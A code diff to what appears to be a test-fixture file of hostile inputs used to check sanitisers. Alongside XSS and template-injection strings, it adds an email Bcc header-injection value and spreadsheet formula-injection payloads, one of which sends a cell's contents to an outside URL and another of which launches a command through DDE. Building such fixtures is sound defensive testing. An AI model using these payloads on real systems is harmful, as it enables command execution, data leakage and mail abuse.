@@ -13,7 +13,19 @@ export const hostileTexts: readonly string[] = [
   `<math><mtext></mtext><mglyph><style><img src=x onerror=xss('mxss')></style></mglyph></math>`,
   `{{constructor.constructor('xss(1)')()}} \${xss('template')} <%= xss('erb') %> #{xss('ruby')}`,
   `\u202egnirts desrever\u202c zero\u200bwidth\u2060text`,
+  `Kim\r\nBcc: thief@example.com\r\n\r\n<b>letter</b>`,
 ];
+
+/** What a spreadsheet would work out, had it been written into a cell as it is. */
+export const formulas: readonly string[] = [
+  `=HYPERLINK("https://example.com/?"&A1,"formula")`,
+  `+1+cmd|' /C calc'!A1 formula`,
+  `-2+3 formula`,
+  `@SUM(1) formula`,
+];
+
+/** No text at all: to be refused wherever a text goes. */
+export const noTexts: readonly string[] = ['a\u0000b', '\ud800', 'a\u009bb'];
 
 /** Markdown that an author might be talked into pasting. */
 export const hostileMarkdown = [
